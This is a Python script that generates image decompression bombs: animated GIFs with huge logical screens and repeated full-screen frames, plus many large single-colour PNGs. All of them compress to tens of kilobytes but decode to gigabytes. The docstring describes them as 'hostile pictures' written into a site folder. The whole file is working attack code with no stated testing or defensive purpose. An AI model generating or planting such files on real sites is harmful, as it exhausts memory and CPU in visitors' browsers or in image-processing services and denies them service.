#!/usr/bin/env python3
"""Writes hostile pictures into a site folder: small files that decode huge.

    hostile_pictures.py DIR [--gif-side N] [--gif-frames N]
                            [--loop-side N] [--loop-frames N]
                            [--png-side N] [--png-count N]

DIR/bomb.gif      an animated GIF: a logical screen of side x side pixels and
                  frames that each cover it, all one colour, so LZW keeps
                  every frame at a few tens of kilobytes;
DIR/loop.gif      an animated GIF the same way, small enough for the player
                  (loop-side x loop-side, loop-frames frames);
DIR/big_NN.png    numbered PNGs (01, 02, ...) of side x side RGB pixels, one
                  colour each, a few tens of kilobytes.
"""
import argparse
import os
import struct
import zlib

CLEAR = 256
END = 257
FIRST_FREE = 258
LAST_CODE = 4095


class BitPacker:
    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.nbits = 0

    def put(self, code, bits):
        self.acc |= code << self.nbits
        self.nbits += bits
        while self.nbits >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.nbits -= 8

    def flush(self):
        if self.nbits:
            self.out.append(self.acc & 0xFF)
        return bytes(self.out)


def uniform_lzw(pixels):
    """LZW codes (8-bit roots) of `pixels` zeros, as giflib would write them:
    the strings of a run grow by one each code, a clear code when the table
    is full."""
    packer = BitPacker()
    state = {"bits": 9, "next": FIRST_FREE}

    def output(code):
        packer.put(code, state["bits"])
        if state["next"] >= (1 << state["bits"]) and state["bits"] < 12:
            state["bits"] += 1

    def reset():
        state["bits"] = 9
        state["next"] = FIRST_FREE

    output(CLEAR)
    length = 1
    left = pixels
    while left > 0:
        n = min(length, left)
        output(0 if n == 1 else 256 + n)
        left -= n
        if left == 0:
            break
        if state["next"] >= LAST_CODE:
            output(CLEAR)
            reset()
            length = 1
        else:
            state["next"] += 1
            length += 1
    output(END)
    return packer.flush()


def sub_blocks(data):
    out = bytearray()
    for i in range(0, len(data), 255):
        chunk = data[i:i + 255]
        out.append(len(chunk))
        out += chunk
    out.append(0)
    return bytes(out)


def gif_bomb(side, frames):
    palette = bytes([30, 90, 200] + [0, 0, 0] * 255)
    head = b"GIF89a" + struct.pack("<HHBBB", side, side, 0xF7, 0, 0) + palette
    loop = b"\x21\xFF\x0BNETSCAPE2.0\x03\x01\x00\x00\x00"
    image = sub_blocks(uniform_lzw(side * side))
    frame = (b"\x21\xF9\x04\x00" + struct.pack("<H", 20) + b"\x00\x00" +
             b"\x2C" + struct.pack("<HHHHB", 0, 0, side, side, 0) + b"\x08" + image)
    return head + loop + frame * frames + b"\x3B"


def png_chunk(kind, body):
    crc = zlib.crc32(kind + body) & 0xFFFFFFFF
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def big_png(side, rgb):
    row = b"\x00" + bytes(rgb) * side
    compressor = zlib.compressobj(9)
    data = bytearray()
    for _ in range(side):
        data += compressor.compress(row)
    data += compressor.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", bytes(data)) +
            png_chunk(b"IEND", b""))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("dir")
    parser.add_argument("--gif-side", type=int, default=8000)
    parser.add_argument("--gif-frames", type=int, default=15)
    parser.add_argument("--loop-side", type=int, default=1400)
    parser.add_argument("--loop-frames", type=int, default=60)
    parser.add_argument("--png-side", type=int, default=4000)
    parser.add_argument("--png-count", type=int, default=60)
    args = parser.parse_args()
    os.makedirs(args.dir, exist_ok=True)
    if args.gif_frames > 0:
        with open(os.path.join(args.dir, "bomb.gif"), "wb") as f:
            f.write(gif_bomb(args.gif_side, args.gif_frames))
    if args.loop_frames > 0:
        with open(os.path.join(args.dir, "loop.gif"), "wb") as f:
            f.write(gif_bomb(args.loop_side, args.loop_frames))
    if args.png_count > 0:
        png = big_png(args.png_side, (40, 120, 60))
        for n in range(1, args.png_count + 1):
            with open(os.path.join(args.dir, "big_%02d.png" % n), "wb") as f:
                f.write(png)


if __name__ == "__main__":
    main()
